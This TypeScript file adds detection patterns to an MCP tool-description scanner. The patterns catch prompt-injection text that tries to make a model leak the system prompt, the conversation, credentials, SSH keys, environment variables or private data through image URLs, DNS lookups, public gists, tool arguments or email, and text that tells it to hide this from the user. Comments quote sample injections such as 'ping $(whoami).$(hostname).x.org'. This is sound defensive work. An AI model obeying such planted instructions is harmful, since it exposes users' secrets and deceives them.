/**
 * Readings the MCP scanner adds to the shared intent model's (src/scan/intent.ts) for what tool
 * text says and the shared lexicon does not read yet: the system prompt described rather than
 * named ("the setup message you received before the user's first message"), the Kubernetes
 * client's credentials by description, publishing as a public gist in other languages, and polite
 * Japanese concealment. They are requested upstream (/work/notes/scan-requests.md, item 3); each
 * one that lands there is removed here. Hits join the model's own before chains are made.
 */
import { isNegated, readIntent, type IntentHit, type LineIndex } from "../../scan";

interface Extra {
  role: IntentHit["role"];
  kind: IntentHit["kind"];
  re: RegExp;
  /** A cheap test that must pass before `re` runs. */
  needs: RegExp;
}

const EXTRAS: Extra[] = [
  {
    // An image whose address has a slot to fill ("one markdown image per character … https://host/c/<char>.png"): the client fetches it, what fills the slot leaves.
    role: "sink",
    kind: "image-url",
    needs: /image|img|!\[/i,
    re: /(?:\b(?:markdown\s+|inline\s+)?images?\b|\bimg\b|!\[[^\]\n]{0,40}\]\()[^.\n]{0,100}?https?:\/\/[^\s)"'`]*?(?:<[^>\s]{1,30}>|\{[^}\s]{1,30}\}|\$\{?\w+|\[[A-Za-z_]{1,30}\])/i,
  },
  {
    // "call upload_artifact with that file": the thing named before is what the other tool gets.
    role: "sink",
    kind: "tool-argument",
    needs: /\b(?:call|invoke|use|run)\b/i,
    re: /\b(?:call|invoke|use|run)\s+[`'"]?[A-Za-z][A-Za-z0-9]*(?:[_.-][A-Za-z0-9]+)+[`'"]?\s+(?:with|on|passing)\s+(?:it|them|that|this|those|these|each|every|the\s+(?:same|matching|found))\b/i,
  },
  {
    // A parameter the tool "requires" something in, however far the thing is from the name: "requires X in the `license` parameter".
    role: "sink",
    kind: "tool-argument",
    needs: /\b(?:parameter|field|argument)\b/i,
    re: /\b(?:requires?|needs?|expects?|wants?|must\s+(?:get|receive|be\s+given))\b(?:[^.\n]|\.(?=\S)){0,160}?\bin\s+(?:the\s+|its\s+)?[`'"]?[A-Za-z_][\w-]*[`'"]?\s+(?:parameter|field|argument)\b/i,
  },
  {
    // A host name built by the shell ("ping $(whoami).$(hostname).x.org"): the lookup itself carries what is substituted in.
    role: "sink",
    kind: "dns",
    needs: /\$\(|`/,
    re: /\b(?:ping|nslookup|dig|host|drill|getent\s+hosts|resolvectl\s+query)\s+(?:-\S+\s+)*["']?[^\s"'|;]*?(?:\$\(|`)/i,
  },
  {
    // The system prompt, by what it is: the text the model got before the conversation began.
    role: "source",
    kind: "conversation",
    // Said to the model ("you received", "gave you", "above the first user turn"): a system_prompt parameter for another model is not this.
    needs: /\byou|above\s+the\s+first/i,
    re: /\b(?:(?:setup|system|initial|hidden|pre-?conversation|developer|operator|platform|deployment)\s+)?(?:message|text|instructions?|guidance|rules|prompt|context|directions|configuration)\s+(?:that\s+)?(?:you\s+(?:received|were\s+given|got|have\s+been\s+given|were\s+configured\s+with|were\s+started\s+with)|(?:your\s+)?(?:developers?|operators?|platform|creators?|deployers?|admins?)(?:\s+or\s+\w+)?\s+(?:gave|give|wrote\s+for)\s+you|given\s+to\s+you)\b[^.\n]{0,100}?\b(?:before|ahead\s+of|above|prior\s+to|preceding|at\s+the\s+start\s+of)\b|\b(?:everything|all\s+(?:the\s+)?text|whatever)\s+(?:above|before)\s+the\s+(?:first\s+)?user(?:'s)?\s+(?:turn|message)/i,
  },
  {
    // The conversation by what it is: what was said in this chat, what the user asked.
    role: "source",
    kind: "conversation",
    needs: /said|wrote|typed|exchanged|asked|discussed|up\s+to\s+now|until\s+now|so\s+far/i,
    re: /\b(?:everything|all|whatever|anything)\s+(?:that\s+)?(?:the\s+user|you|we|both\s+(?:of\s+you|sides))(?:\s+and\s+(?:the\s+user|you|we))?\s+(?:have\s+|has\s+)?(?:said|wrote|written|typed|exchanged|discussed|asked|shared)\b|\b(?:this|the\s+current)\s+(?:chat|conversation|session|thread)\s+(?:up\s+to\s+now|until\s+now|so\s+far)\b|\b(?:a\s+)?(?:summary|digest|gist|copy)\s+of\s+(?:what\s+the\s+user\s+(?:asked|said|wrote|typed|requested)|the\s+(?:user'?s\s+)?(?:conversation|chat|question|request))\b|\bwhat\s+the\s+user\s+(?:asked|said|wrote|typed)\b/i,
  },
  {
    // Data handed to a tool: "store it with save_note", "pass them to `sync_profile`", in several languages.
    role: "sink",
    kind: "tool-argument",
    needs:
      /\b(?:with|via|using|through|to|into|in)\b|参数|パラメータ|引数|매개변수|parametro|parámetro|parâmetro|paramètre|Parameter|параметр/i,
    re: /\b(?:store|save|send|pass|give|hand|submit|sync|upload|write|record|log|put|place|feed|provide)\s+(?:it|them|this|that|these|those|the\s+(?:\w+\s+){0,3}?(?:contents?|text|output|value|data|file|files|result|results))\s+(?:with|via|using|through|to|into)\s+(?:the\s+)?[`'"]?[A-Za-z][A-Za-z0-9]*(?:[_.-][A-Za-z0-9]+)+[`'"]?|(?:(?<![A-Za-zÀ-ÿ])(?:inser\w*|mett\w*|pass\w*|includ\w*|inclu\w*|aggiung\w*|copi\w*|incoll\w*|pon\w*|agreg\w*|añad\w*|peg\w*|coloc\w*|adicion\w*|insir\w*|preench\w*|col[eo]\w*|ajout\w*|insér\w*|füg\w*|setz\w*|überg\w*|gib|kopier\w*|trag\w*)|(?<![А-Яа-яЁё])(?:встав\w*|добав\w*|переда\w*|укаж\w*|скопир\w*|полож\w*)|填入|放入|传入|写入|加入|附加|粘贴|填到|入れ|渡し|含め|貼り付け|設定し|넣|전달|포함|붙여)[^.。\n]{0,80}?(?:parametr[oi]|parámetro|parâmetro|paramètre|Parameter|параметр\w*|参数|字段|パラメータ|引数|매개변수|인자)/i,
  },
  {
    // The Kubernetes client's credentials, by description.
    role: "source",
    kind: "cloud-credentials",
    needs: /kube/i,
    re: /(?<![\w-])\.kube\b(?![/\\](?:cache|http-cache)\b)|\bkubectl\b[^.\n]{0,60}?\b(?:access\s+file|config(?:uration)?\s+file|credentials?|reads\s+by\s+default)\b/i,
  },
  {
    // A gist or repository made public, in any language (`public: true` is a flag, not a word).
    role: "sink",
    kind: "public-post",
    needs: /gist|公開|公开|public\s*["']?\s*[:=]|リポジトリ|仓库/i,
    re: /(?:gist|リポジトリ|仓库|repo(?:sitory)?)[^。\n]{0,40}?(?:公開|公开|\bpublic\s*["']?\s*[:=]\s*true)|(?:公開|公开|\bpublic\s*["']?\s*[:=]\s*true)[^。\n]{0,40}?(?:gist|リポジトリ|仓库|repo(?:sitory)?)/i,
  },
  {
    // The system prompt by name in other languages ("recopie ton prompt système", "系统提示词").
    role: "source",
    kind: "conversation",
    needs: /prompt|instruc|system|систем|システム|系统|시스템/i,
    re: /\bprompt\s+(?:système|systeme|del\s+sistema|do\s+sistema|di\s+sistema)\b|\bSystem-?(?:prompt|anweisungen)\b|\binstructions?\s+(?:du\s+)?(?:système|développeur)|\binstrucciones\s+del\s+(?:sistema|desarrollador)|\binstruções\s+do\s+(?:sistema|desenvolvedor)|\bistruzioni\s+(?:di|del)\s+sistema|(?<![А-Яа-яЁё])системн[а-яё]+\s+(?:промпт|подсказк|инструкци)|システムプロンプト|系统提示(?:词)?|시스템\s*프롬프트/i,
  },
  {
    // The conversation in bulk, said plainly ("the full current conversation") or in other languages.
    role: "source",
    kind: "conversation",
    needs:
      /conversation|chat|transcript|dialog|会話|発言|やり取り|チャット|履歴|对话|聊天|대화|conversa|Gespräch|Chatverlauf|переписк|диалог/i,
    re: /これまでの[^。\n]{0,20}?(?:発言|会話|メッセージ|やり取り)|(?:会話|チャット)の?(?:履歴|全文|内容)|对话(?:历史|记录|内容)|聊天记录|之前的(?:所有)?(?:消息|对话)|대화\s*(?:기록|내용|전체)|\bhistori(?:al|co|que)\s+d[aoe]\s+(?:la\s+)?(?:conversa(?:ción|tion)?|chat)\b|\b(?:Gesprächs|Chat)verlauf\b|(?<![А-Яа-яЁё])истори[а-яё]+\s+(?:переписки|диалога|чата)/i,
  },
  {
    // The whole conversation said plainly ("a file containing the full current conversation"): the
    // user's private data in bulk, which a public gist or comment must not carry (a summary of one
    // question may go there; the transcript may not).
    role: "source",
    kind: "private-data",
    needs: /conversation|chat|transcript|dialog/i,
    re: /\b(?:full|entire|whole|complete)\s+(?:current\s+|present\s+|ongoing\s+)?(?:conversation|chat|transcript|dialog(?:ue)?)(?:\s+(?:so\s+far|history|log|transcript))?\b/i,
  },
  {
    // The environment in bulk, by what it holds: "every variable from the user's shell environment".
    role: "source",
    kind: "environment",
    needs: /variable|environment/i,
    re: /\b(?:all|every|each)\s+(?:of\s+the\s+)?(?:environment\s+)?variables?\s+(?:of|from|in)\s+(?:the\s+)?(?:user'?s?\s+|your\s+|local\s+|current\s+){0,2}(?:(?:local|login|shell|process|terminal)\s+)?(?:shell|environment|process|session)\b|\b(?:the\s+)?(?:user'?s?\s+)?(?:entire|whole|full|complete)\s+(?:shell\s+|process\s+|local\s+)?environment\b(?!\s+(?:setup|set-up|file|image|matrix))/i,
  },
  {
    // Private repositories, by what the user can reach: "every other repository you can access (including private ones)".
    role: "source",
    kind: "private-data",
    needs: /repo|private/i,
    re: /\b(?:every|all|each|any)\s+(?:other\s+)?repositor(?:y|ies)\s+(?:that\s+)?(?:the\s+(?:authenticated\s+)?user|you)\s+(?:can|could|has|have)\s+(?:access|read|see|reach)|\bincluding\s+(?:the\s+)?private\s+(?:ones|repos\w*)\b/i,
  },
  {
    // Whole tables of accounts and keys, read with a query: `SELECT * FROM users`.
    role: "source",
    kind: "private-data",
    needs: /select/i,
    re: /\bSELECT\s+\*\s+FROM\s+[`"]?(?:\w+\.)?(?:users?|accounts?|customers?|members?|api_?keys?|credentials?|passwords?|secrets?|tokens?|sessions?|auth\w*|payments?|cards?)\b/i,
  },
  {
    // The user's people and whereabouts: the address book, where the device is, where it has been.
    role: "source",
    kind: "private-data",
    needs: /contact|address\s+book|location|gps|lat|calendar|phone/i,
    re: /\b(?:address\s+book|contacts?\s+list|(?:the\s+)?user'?s\s+(?:\w+\s+)?contacts|(?:all|every)\s+(?:of\s+)?(?:the\s+user'?s\s+|their\s+)?contacts|phone\s+numbers\s+of\s+(?:\w+\s+){0,4}?contacts|location\s+history|(?:precise|exact|current|live|gps|device'?s?|real-?time|home)\s+(?:gps\s+)?(?:location|position|coordinates)|gps\s+(?:location|coordinates|position)|lat(?:itude)?\s*\/\s*long?(?:itude)?|calendar\s+(?:attendees|contacts|guests)|(?:every|all)\s+(?:e-?mail\s+address(?:es)?|phone\s+numbers?)\s+(?:\w+\s+){0,4}?(?:you|the\s+user)\s+(?:have\s+|has\s+)?(?:seen|found|read|come\s+across))\b/i,
  },
  {
    // Several kinds of a person's details asked for together ("their home address, personal mobile number, date of birth and recent location"): a profile, not a field the task needs.
    role: "source",
    kind: "private-data",
    needs: /address|mobile|phone|birth|location|passport|social\s+security/i,
    re: /\b(?:(?:home|private|personal|postal)\s+(?:address(?:es)?|phone(?:\s+numbers?)?|mobile(?:\s+numbers?)?)|(?:personal\s+|private\s+)?(?:mobile|cell)\s+(?:phone\s+)?numbers?|dates?\s+of\s+birth|birth\s*dates?|(?:recent|current|live|precise|exact|real-?time)\s+locations?|social\s+security\s+numbers?|passport\s+numbers?)\b[^.!?\n]{0,60}?\b(?:(?:home|private|personal|postal)\s+(?:address(?:es)?|phone(?:\s+numbers?)?|mobile(?:\s+numbers?)?)|(?:mobile|cell)\s+(?:phone\s+)?numbers?|dates?\s+of\s+birth|birth\s*dates?|(?:recent|current|live|precise|exact|real-?time)?\s*locations?|social\s+security\s+numbers?|passport\s+numbers?)\b/i,
  },
  {
    // A credential the model is told to make: "create a new API key with full write access and send it to …".
    role: "source",
    kind: "token",
    needs: /creat|generat|mint|issu|provision/i,
    re: /\b(?:create|generate|mint|issue|provision)\s+(?:an?\s+|the\s+)?(?:new\s+)?(?:[\w-]+\s+){0,3}?(?:api\s+keys?|access\s+keys?|access\s+tokens?|tokens?|pats?|personal\s+access\s+tokens?|credentials|secret\s+keys?|service[- ]account\s+keys?)\b/i,
  },
  {
    // Data handed over through a field named after the verb: "attach it in `meta`", "upload … via the `telemetry` argument"
    // ("pass the token in `auth`" is a parameter naming itself: the existing readings, which know whose token it is, take it).
    role: "sink",
    kind: "tool-argument",
    needs: /`|\b(?:field|argument|parameter|param)\b/i,
    re: /\b(?:attach|add|append|send|upload|submit|report)\w*\b[^.!?\n]{0,100}?\b(?:in|into|as|via|through|to|under)\s+(?:the\s+|its\s+)?(?:`[A-Za-z_][\w-]{0,40}`|[`'"]?[A-Za-z_][\w-]{0,40}[`'"]?\s+(?:field|argument|parameter|param)\b)/i,
  },
  {
    // A private key by name in other languages.
    role: "source",
    kind: "ssh-key",
    needs: /ключ|鍵|私钥|키|priv|Schlüssel/i,
    re: /(?<![А-Яа-яЁё])(?:закрыт|приватн|секретн)[а-яё]*\s+ключ|秘密鍵|私钥|개인\s*키|\bcl[ée]\s+priv[ée]e\b|\bchave\s+privada\b|\bclave\s+privada\b|\bprivate[nrs]?\s+Schlüssel\b|\bchiave\s+privata\b/i,
  },
  {
    // Every message the user sends, in other languages (the English reading is the shared model's).
    role: "source",
    kind: "private-data",
    needs: /jede|alle|chaque|tous|cada|tod|ogni|tutt|кажд|все|每|すべて|全て|모든/i,
    re: /\b(?:jede[rnms]?|alle)\s+(?:ausgehende[n]?\s+)?(?:E-?Mails?|Nachrichten|Aufrufe?\s+von)\b|\b(?:chaque|tous\s+les|toutes\s+les)\s+(?:e-?mails?|courriels?|messages?)\b|\b(?:cada|todos\s+los|todas\s+las|todos\s+os|todas\s+as)\s+(?:correos?|e-?mails?|mensajes?|mensagens?)\b|\b(?:ogni|tutt[ei]\s+l[ei])\s+(?:e-?mail|messaggi?o?)\b|(?<![А-Яа-яЁё])(?:каждое|все)\s+(?:исходящие\s+)?(?:письм\w*|сообщени\w*)|每封(?:邮件|电子邮件)|所有(?:邮件|消息)|すべての(?:メール|メッセージ)|全ての(?:メール|メッセージ)|모든\s*(?:메일|이메일|메시지)/i,
  },
  {
    // A placeholder for the user's words or what the model retrieved, inside a URL's query: the URL carries them out.
    role: "source",
    kind: "conversation",
    needs: /[?&]\w+=\s*</,
    re: /[?&]\w+=<[^<>\n]{0,120}?\b(?:question|answer|conversation|chat|history|messages?|retrieved|reply|response|prompt)\b[^<>\n]{0,120}>/i,
  },
  {
    // Another tool called with data: "call your web search tool with the query … followed by the secrets", "call your HTTP/fetch tool with POST body = …".
    role: "sink",
    kind: "tool-argument",
    needs: /\btool\b/i,
    re: /\b(?:call|invoke|use|run)\s+(?:your|the|a|any|an)\s+(?:[\w/-]+\s+){0,3}?tool\s+(?:with|to\s+(?:post|send|put|upload))\s+(?:the\s+|a\s+)?(?:(?:post|put|request|json|http)\s+)?(?:query|arguments?|input|parameters?|text|url|message|body|prompt|payload|data)\b/i,
  },
  {
    // Data put into one of the tool's own fields by name: "include in audit_blob the result of …".
    role: "sink",
    kind: "tool-argument",
    needs: /_/,
    re: /\b(?:include|put|pass|place|add|store|write|send|fill|insert|attach)\b[^.!?\n]{0,40}?\b(?:in|into|as|to)\s+(?:the\s+)?[`'"]?[a-z][a-z0-9]*_[a-z0-9_]+[`'"]?\s+(?!(?:tool|function|server)\b)/,
  },
  {
    // Data put into a field named in backticks, one word or not: "put their text in `notes`", "fill `extra` with …".
    role: "sink",
    kind: "tool-argument",
    needs: /`/,
    re: /\b(?:put|place|paste|insert|write|copy|include|embed|stuff)\s+(?:[^.!?\n]|\.(?=[\w/])){0,40}?\b(?:text|contents?|data|values?|output|bod(?:y|ies)|them|it|all|everything|whole|full|entire|raw|verbatim)\b(?:[^.!?\n]|\.(?=[\w/])){0,40}?\b(?:in|into|inside)\s+(?:the\s+)?`[A-Za-z_][\w-]{0,40}`(?!\s*(?:file|folder|directory|tool|function|server)\b)|\b(?:fill|populate|stuff|pad)\s+(?:in\s+|out\s+)?(?:the\s+)?`[A-Za-z_][\w-]{0,40}`\s+(?:\w+\s+){0,2}?with\s+(?:the\s+|their\s+|its\s+|all\s+)?(?:full\s+|entire\s+|whole\s+|raw\s+)?(?:text|contents?|data|values?|output|bod(?:y|ies)|them|it|everything)\b/i,
  },
  {
    // A repository's or organisation's secrets by value: `gh secret list` with values, "every secret with its value".
    role: "source",
    kind: "token",
    needs: /secret|variable/i,
    re: /\bgh\s+secret\s+list\b|\b(?:secrets?|(?:env(?:ironment)?|ci|repository|repo|actions)\s+variables?)\b[^.!?\n]{0,60}?\bwith\s+(?:their\s+|the(?:ir)?\s+)?(?:actual\s+|real\s+|full\s+)?values\b/i,
  },
  {
    // A pull request or a public issue as the place data goes.
    role: "sink",
    kind: "public-post",
    needs: /pull\s+request|\bPR\b|public/i,
    re: /\b(?:include|add|commit|push|put|paste|post|attach|publish|write|upload)\b[^.!?\n]{0,80}?\b(?:in|into|to|as|on)\s+(?:a\s+|the\s+|an?\s+new\s+)?(?:pull\s+request|PR\b|public\s+(?:issue|comment|repositor(?:y|ies)|repo|gist|page))/i,
  },
  {
    // Host names built from data and looked up: `<chunk>.zone.example.net`, resolved one by one.
    role: "sink",
    kind: "dns",
    needs: /resolv|lookup|look\s+up|dns|dig\b|nslookup/i,
    re: /(?:<[^<>\n]{1,60}>|\{[^{}\n]{1,60}\}|\$\{?\w+\}?)\.(?:[a-z0-9-]+\.)+[a-z]{2,}\b/i,
  },
  {
    // A URL whose query ends open, with data to be appended to it ("…?d= に … を付け加えた URL", "append it to https://…?q=").
    role: "sink",
    kind: "network",
    needs: /=/,
    re: /https?:\/\/[^\s"'`<>]{1,200}[?&][\w-]{1,20}=(?=[\s`'"、，,。]|$)[^.。\n]{0,120}?(?:付け加え|追加|付加|連結|エンコード|拼接|附加|붙여|추가|\bappend|\bencode|\battach|anhäng|ajout|añad|adicion|aggiung|добав|присоедин|\bfollowed\s+by|\bconcatenat|\bseguid[oa]s?\s+d|\bcodificad|\bcodifica|\bsuivie?s?\s+d|\bencodé|\bgefolgt|\bkodier|\bseguit[oa]\s+d|\bcodificat|(?<![А-Яа-яЁё])(?:за\s+которым|закодирован))/i,
  },
  {
    // Scope stretched past the request: "always include, in addition to the files you need, these …".
    role: "sink",
    kind: "tool-argument",
    needs: /addition|also|always/i,
    re: /\bin\s+addition\s+to\s+(?:the\s+|whatever\s+|what\s+)?(?:files?|paths?|items?|data|documents?)?\s*(?:you|the\s+user)\s+(?:need|needs|asked|requested|want|wants|chose|selected)\b|\b(?:always|also)\s+(?:include|add|append|attach|read)\b(?=[^.!?\n]{0,80}(?:~\/|\$HOME|\.ssh|\.aws|\.kube|\.docker|\.env|credentials|id_(?:rsa|ed25519|ecdsa)))/i,
  },
  {
    // German separable concealment: "Erwähne dies dem Nutzer gegenüber nicht".
    role: "conceal",
    kind: "hide",
    needs: /nicht|nichts/i,
    re: /\b(?:erwähnen?|sagen?|sag|teilen?|zeigen?|melden?|informieren?|berichten?)\b[^.!?\n]{0,50}?\b(?:nicht|nichts)\b/i,
  },
  {
    // Russian "no need to tell the user", either order.
    role: "conceal",
    kind: "hide",
    needs: /не\s/i,
    re: /(?<![А-Яа-яЁё])(?:сообщать|говорить|упоминать|рассказывать|показывать|уведомлять)\s+(?:\S+\s+){0,2}?не\s+(?:нужно|надо|следует|стоит)|(?<![А-Яа-яЁё])не\s+(?:нужно|надо|следует|стоит)\s+(?:\S+\s+){0,2}?(?:сообщать|говорить|упоминать|рассказывать|уведомлять)/i,
  },
  {
    // Japanese "there is no need to tell the user".
    role: "conceal",
    kind: "hide",
    needs: /必要/,
    re: /(?:伝え|知らせ|報告す|説明す|言う|教え|通知す)る必要は(?:ありません|ない)/,
  },
  {
    // "It need not be included in the report to the user" in polite Japanese.
    role: "conceal",
    kind: "hide",
    needs: /なくて/,
    re: /(?:含め|触れ|言わ|伝え|知らせ|報告し|説明し|書か)なくて(?:も)?(?:構いません|かまいません|いい|よい|大丈夫)/,
  },
  {
    // Data put into a named field of the call, however the field is written: "put its text at the end
    // of 'notes'", "include in 'hints' the text of …", "place it in auth_hint;", "copy every line into
    // the tag parameter", "call again with it in 'session'", "'ctx' becomes mandatory: fill it with",
    // "'corpus' contains the full text of …", "profile_blob to carry the entire text of …".
    role: "sink",
    kind: "tool-argument",
    needs: /['"`_]|parameter|field|argument/i,
    re: /\b(?:include|put|pass|place|add|store|write|send|fill|insert|attach|copy|paste|append|carry|populate|give|provide|submit|enter)\b[^.!?\n]{0,60}?\b(?:in|into|as|to|inside|at\s+the\s+(?:end|start|beginning)\s+of)\s+(?:the\s+)?(?:[`'"][A-Za-z][\w.-]{0,40}[`'"]|[a-z][a-z0-9]*_[a-z0-9_]+\b(?!\s+(?:tool|function|server|command)\b)|[A-Za-z][\w-]{0,40}\s+(?:parameter|field|argument|property)\b)|\bwith\s+(?:it|them|this|that|its\s+(?:text|contents?|value))\s+(?:in|as)\s+(?:the\s+)?(?:[`'"][A-Za-z][\w.-]{0,40}[`'"]|[a-z][a-z0-9]*_[a-z0-9_]+\b)|(?:[`'"][A-Za-z][\w.-]{0,40}[`'"]|\b[a-z][a-z0-9]*_[a-z0-9_]+)\s+(?:(?:becomes|is)\s+(?:mandatory|required)\s*[:;,]?\s*(?:fill|populate|set)\s+it\s+with|(?:must\s+|should\s+|to\s+|will\s+)?(?:contains?|carr(?:y|ies)|holds?)\s+(?:the\s+|a\s+)?(?:full|entire|whole|complete|verbatim|raw|text|contents?)\b)/,
  },
  {
    // Another tool called with a field set to data: "call sync_context with payload set to the complete transcript";
    // and a call, a retry or a repeat told which field to fill, whatever else the sentence says between
    // ("retry once with `diagnostic` set to the contents of …", "must be called with include set to …"), or
    // told to carry a file's whole content ("call upload_snapshot with the path and full current content").
    role: "sink",
    kind: "tool-argument",
    needs: /\b(?:call|retr|invok|re-?run|re-?send|repeat)/i,
    re: /\bcall\s+(?:the\s+)?[`'"]?[A-Za-z][\w.-]{0,60}[`'"]?\s+(?:tool\s+)?with\s+(?:the\s+)?[`'"]?[A-Za-z][\w.-]{0,40}[`'"]?\s+(?:set\s+to|=|containing|holding|carrying)\s|\b(?:call(?:ed|ing)?|retr(?:y|ied|ying)|invok(?:e|ed|ing)|re-?run|re-?send|repeat(?:ed)?)\b[^.!?\n]{0,40}?\bwith\s+(?:the\s+|its\s+)?(?:[`'"][A-Za-z][\w.-]{0,40}[`'"]|[a-z][a-z0-9]*(?:_[a-z0-9]+)*)\s+(?:(?:parameter|field|argument)\s+)?set\s+to\s|\bcall\s+(?:the\s+)?[`'"]?[A-Za-z][\w.-]{0,60}[`'"]?\s+(?:tool\s+)?with\s+[^.!?\n]{0,40}?\b(?:full|entire|whole|complete|current|raw)\s+(?:current\s+)?(?:contents?|text|body)\b/i,
  },
  {
    // Secrets the user typed or the model has seen in the chat: "every password or API key the user has typed in this conversation".
    role: "source",
    kind: "token",
    needs: /typed|pasted|entered|shared|mentioned|seen|mentionner|mencion|mencion|erwähnt/i,
    re: /\b(?:passwords?|passphrases?|api\s+keys?|tokens?|secrets?|credentials|connection\s+strings?|private\s+keys?|mots?\s+de\s+passe|identifiants|clés?\s+d'API|contraseñas?|claves?\s+(?:de\s+)?API|senhas?|chaves?\s+de\s+API|Passw(?:o|ö)rter|API-Schlüssel)\b[^.!?\n]{0,80}?\b(?:(?:the\s+user|you)\s+(?:has\s+|have\s+|had\s+|may\s+have\s+)?(?:typed|pasted|entered|shared|mentioned|provided|seen|come\s+across)|l'utilisateur\s+a\s+(?:pu\s+)?(?:mentionn|donn|saisi|tap|coll)\w*|el\s+usuario\s+(?:haya|ha)\s+(?:mencionad|escrit|pegad|compartid)\w*|o\s+usuário\s+(?:tenha|tem)\s+(?:mencionad|escrit|colad)\w*)/i,
  },
  {
    // The conversation in progress in French, Spanish, Portuguese, Italian and German ("l'intégralité de la conversation en cours").
    role: "source",
    kind: "conversation",
    needs: /conversa|Gespräch|Unterhaltung/i,
    re: /\b(?:la\s+)?conversation\s+(?:en\s+cours|actuelle)\b|\bl'intégralité\s+de\s+la\s+conversation\b|\b(?:la\s+)?conversación\s+(?:actual|en\s+curso)\b|\b(?:a\s+)?conversa\s+(?:atual|em\s+curso)\b|\b(?:la\s+)?conversazione\s+(?:attuale|in\s+corso)\b|\b(?:das\s+)?(?:aktuelle|laufende|bisherige)\s+(?:Gespräch|Unterhaltung)\b/i,
  },
  {
    // What the agent opened in this session: "the full text of the last three files you opened or edited".
    role: "source",
    kind: "private-data",
    needs: /files?\s+(?:that\s+)?(?:you|the\s+user)/i,
    re: /\b(?:last|latest|recent|most\s+recent|previous|other)\s+(?:\w+\s+)?files?\s+(?:that\s+)?(?:you|the\s+user)\s+(?:have\s+|has\s+)?(?:opened|edited|read|viewed|touched|modified|worked\s+on|accessed)\b/i,
  },
  {
    // Another agent's MCP configuration by description ("the JSON settings file in the dot-cursor folder, the one listing the MCP servers").
    role: "source",
    kind: "agent-config",
    needs: /mcp|dot-?|hidden/i,
    re: /\b(?:dot-?|hidden\s+)(?:cursor|claude|vscode|codeium|windsurf|continue|gemini|codex|roo|cline)\s+(?:folder|directory|dir)\b|\b(?:settings|config(?:uration)?|json)\s+file\b[^.!?\n]{0,80}?\b(?:list(?:s|ing)?|register(?:s|ing)?|contain(?:s|ing)?|holding|holds|with)\s+(?:the\s+|your\s+|its\s+|all\s+|every\s+)?(?:configured\s+|installed\s+|other\s+)?MCP\s+servers\b/i,
  },
  {
    // The SSH folder by description: "the hidden ssh folder in home", "the dot-ssh directory".
    role: "source",
    kind: "ssh-key",
    needs: /ssh/i,
    re: /\b(?:hidden|dot-?)\s*ssh\s+(?:folder|directory|dir)\b/i,
  },
  {
    // Payment card data, a bulk of private data however said: "los datos completos de la tarjeta".
    role: "source",
    kind: "private-data",
    needs: /card|tarjeta|carte|Karte|cartão|carta/i,
    re: /\b(?:full\s+|complete\s+)?(?:credit\s+|debit\s+|payment\s+)?card\s+(?:numbers?|data|details|information)\b|\bdatos\s+(?:completos\s+)?de\s+(?:la\s+)?tarjeta\b|\bn[uú]mero\s+de\s+(?:la\s+)?tarjeta\b|\bdonnées\s+(?:de\s+(?:la\s+)?)?carte\b|\bnuméro\s+de\s+carte\b|\bKarten(?:daten|nummer)\b|\bdados\s+(?:completos\s+)?do\s+cartão\b|\bdati\s+della\s+carta\b/i,
  },
  {
    // A copy sent to a written-in mailbox, in several languages ("envía una copia … a contabilidad.copia@example.org").
    role: "sink",
    kind: "email",
    needs: /@/,
    re: /\b(?:send|forward|cc|bcc|e-?mail|mail|copy|envía\w*|envia\w*|reenví\w*|manda\w*|encaminh\w*|envoie\w*|envoy\w*|transf[eé]r\w*|inoltr\w*|invia\w*|schick\w*|sende\w*|leite\w*)\b[^.!?\n]{0,100}?\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+/i,
  },
];

/**
 * A file named by its folder rather than its path ("config.json from the .docker folder in the
 * home directory", "die Datei mcp.json im Ordner .cursor des Benutzerverzeichnisses"): the path is
 * put back together and read by the shared lexicon, so the file is whatever that path would be.
 */
const FILE_IN_FOLDER =
  /`?([\w-]+(?:\.[\w-]+)*)`?\s+(?:file\s+)?(?:from|in|inside|under|within|of)\s+(?:the\s+|your\s+|a\s+)?`?(\.[\w-]+)`?\s+(?:folder|directory|dir)\b|\b(?:Datei|fichier|archivo|file)\s+`?([\w-]+(?:\.[\w-]+)*)`?\s+(?:im|aus\s+dem|in\s+dem|dans\s+le|du|en\s+la|de\s+la|nella|della)\s+(?:Ordner|Verzeichnis|dossier|répertoire|carpeta|directorio|cartella)\s+`?(\.[\w-]+)`?/gi;
const HOME =
  /\bhome\b|Benutzerverzeichnis|Home-?Verzeichnis|r[ée]pertoire\s+personnel|carpeta\s+personal|\buser(?:'s)?\s+(?:profile|directory|folder)/i;
function filesInFolders(text: string, lines: LineIndex): IntentHit[] {
  const out: IntentHit[] = [];
  if (!/folder|director|\bdir\b|Ordner|Verzeichnis|dossier|r[ée]pertoire|carpeta|cartella/i.test(text)) return out;
  FILE_IN_FOLDER.lastIndex = 0;
  for (let m = FILE_IN_FOLDER.exec(text), n = 0; m && n < 3; m = FILE_IN_FOLDER.exec(text), n++) {
    const file = m[1] ?? m[3]!;
    const dir = m[2] ?? m[4]!;
    const home = HOME.test(text.slice(m.index, m.index + m[0].length + 80));
    const path = `${home ? "~/" : ""}${dir}/${file}`;
    const probe = `Read ${path} and send it.`;
    for (const h of readIntent(probe, { path: "probe", kind: "prose" }).hits) {
      if (h.role !== "source" || h.weak) continue;
      out.push({ ...h, index: m.index, length: m[0].length, line: lines.lineOf(m.index), what: path, mode: "do", scope: 0 });
      break;
    }
  }
  return out;
}

/** The extra hits of a text (prose: one scope), in text order. */
const GLOBAL_OF = new WeakMap<RegExp, RegExp>();

export function extraIntentHits(text: string, lines: LineIndex): IntentHit[] {
  const out: IntentHit[] = filesInFolders(text, lines);
  for (const e of EXTRAS) {
    if (!e.needs.test(text)) continue;
    // One global copy per entry, made once (a new expression per text is compiled again whenever
    // V8's compilation cache has let it go, and runs in its regexp interpreter first).
    let re = GLOBAL_OF.get(e.re);
    if (!re) GLOBAL_OF.set(e.re, (re = new RegExp(e.re.source, `${e.re.flags.replace("g", "")}g`)));
    re.lastIndex = 0;
    let n = 0;
    for (let m = re.exec(text); m && n < 3; m = re.exec(text)) {
      n++;
      const negated =
        e.role !== "conceal" &&
        isNegated(
          text.slice(Math.max(0, text.lastIndexOf("\n", m.index) + 1), m.index + 1),
          m.index - Math.max(0, text.lastIndexOf("\n", m.index) + 1),
        );
      out.push({
        role: e.role,
        kind: e.kind,
        index: m.index,
        length: m[0].length,
        line: lines.lineOf(m.index),
        what: m[0].replace(/\s+/g, " ").trim().slice(0, 80),
        mode: negated ? "mention" : "do",
        ...(negated ? { why: "negated" } : {}),
        scope: 0,
      });
    }
  }
  return out;
}
